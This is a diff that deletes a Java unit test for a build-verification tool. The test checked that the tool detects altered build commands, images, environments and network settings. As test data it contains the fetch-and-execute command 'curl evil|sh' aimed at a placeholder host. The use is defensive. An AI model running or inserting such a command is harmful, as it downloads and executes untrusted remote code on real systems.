@@ -102,13 +102,4 @@ class CompletenessTest {
         assertThrows(Rejected.Malformed.class, () -> Completeness.files(List.of(Resource.of("a/../b", digest))));
     }
 
-    @Test @Tag("build/minimal-network") void another_command_image_environment_or_network_is_found() {
-        var expected = ExpectedBuild.of((Step.Command) plan.findStep("build").orElseThrow());
-        assertEquals(List.of(), expected.differences(expected));
-        var shell = new ExpectedBuild(expected.step(), expected.image(), List.of("sh", "-c", "curl evil|sh"), expected.environment(), "none", expected.inputs(), expected.outputs());
-        assertEquals("command [sh, -c, curl evil|sh]", expected.differences(shell).getFirst().found());
-        var elsewhere = new ExpectedBuild("unit", Digest.of(Bytes.utf8("x")), expected.argv(), new TreeMap<>(Map.of("A", "b")), "host", List.of(), List.of("x"));
-        assertEquals(List.of("step", "image", "environment", "network", "inputs", "outputs"),
-                expected.differences(elsewhere).stream().map(finding -> finding.found().substring(0, finding.found().indexOf(' '))).toList());
-    }
 }
